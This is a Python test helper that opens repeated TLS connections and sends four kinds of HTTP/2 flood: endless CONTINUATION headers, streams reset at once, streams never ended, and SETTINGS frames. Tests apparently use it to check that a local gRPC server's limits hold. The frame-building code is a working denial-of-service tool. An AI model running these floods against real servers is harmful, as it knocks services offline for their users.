"""http2_floods.py HOST:PORT AUTHORITY KIND SECONDS: sends frames of HTTP/2 that attacks are made of, over TLS and without a
client certificate, on new connections as often as one ends. Prints how many messages were sent and how many connections were
made. A test starts it as a process of its own (`start`): a thread would hold up the test's own calls.
"""
import select
import socket
import ssl
import struct
import subprocess
import sys
import time

from connections import HELLO

# The attacker's address: the limits of each address are not those of the other owners.
SOURCE = "127.0.0.2"
HEADERS, RESET, SETTINGS, GOAWAY, CONTINUATION = 1, 3, 4, 7, 9


def frame(kind, flags, stream, payload=b""):
    """A frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    return bytes([len(value)]) + value


# POST https /varimesh.v1.JobService/ListJobs localhost, content-type: application/grpc, te: trailers
REQUEST = (b"\x83\x87\x04" + text(b"/varimesh.v1.JobService/ListJobs") + b"\x01" + text(b"localhost") + b"\x00" +
           text(b"content-type") + text(b"application/grpc") + b"\x00" + text(b"te") + text(b"trailers"))


def endless_headers():
    yield frame(HEADERS, 0, 1, REQUEST)
    while True:
        yield frame(CONTINUATION, 0, 1, (b"\x00" + text(b"x-more") + text(b"y" * 100)) * 100)


def streams(ending):
    for stream in range(1, 1 << 31, 2):
        yield frame(HEADERS, 4, stream, REQUEST) + ending(stream)


FLOODS = {
    "endless headers": endless_headers,
    "streams that are reset at once": lambda: streams(lambda stream: frame(RESET, 0, stream, struct.pack(">I", 8))),
    "streams without an end": lambda: streams(lambda stream: b""),
    "settings": lambda: iter(lambda: frame(SETTINGS, 0, 0) * 100, None),
}


class Answers:
    """What the other side says on a connection."""

    def __init__(self, connection):
        self.connection, self.unread = connection, b""

    def has_ended(self):
        """Whether the other side has said GOAWAY: it may read on for a while, but throws away what it reads."""
        while self.connection.pending() or select.select([self.connection], [], [], 0)[0]:
            try:
                read = self.connection.recv(1 << 16)
            except ssl.SSLWantReadError:
                break
            if not read:
                return True
            self.unread += read
        while len(self.unread) >= 9:
            size = int.from_bytes(self.unread[:3], "big")
            if self.unread[3] == GOAWAY:
                return True
            if len(self.unread) < 9 + size:
                break
            self.unread = self.unread[9 + size:]
        return False


def flood(address, authority, kind, seconds):
    """Returns how many messages were sent, and how many connections were made."""
    host, port = address.rsplit(":", 1)
    context = ssl.create_default_context(cafile=authority)
    context.set_alpn_protocols(["h2"])
    sent = connections = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        connections += 1
        try:
            with socket.create_connection((host, int(port)), 2, (SOURCE, 0)) as plain, \
                    context.wrap_socket(plain, server_hostname=host) as one:
                one.sendall(HELLO)
                answers = Answers(one)
                for message in FLOODS[kind]():
                    if time.monotonic() > end or answers.has_ended():
                        break
                    one.sendall(message)
                    sent += 1
        except OSError:
            pass
    return sent, connections


def start(address, authority, kind, seconds):
    """Two processes that flood. They have the lowest priority, as their processors belong to the attacker."""
    command = ["nice", "-n", "19", sys.executable, __file__, address, authority, kind, str(seconds)]
    return [subprocess.Popen(command, stdout=subprocess.PIPE, text=True) for _ in range(2)]


def totals(attackers):
    """Waits for the processes. Returns how many messages they sent, and how many connections they made."""
    counts = [map(int, attacker.communicate()[0].split()) for attacker in attackers]
    return tuple(map(sum, zip(*counts)))


if __name__ == "__main__":
    print(*flood(*sys.argv[1:4], float(sys.argv[4])))
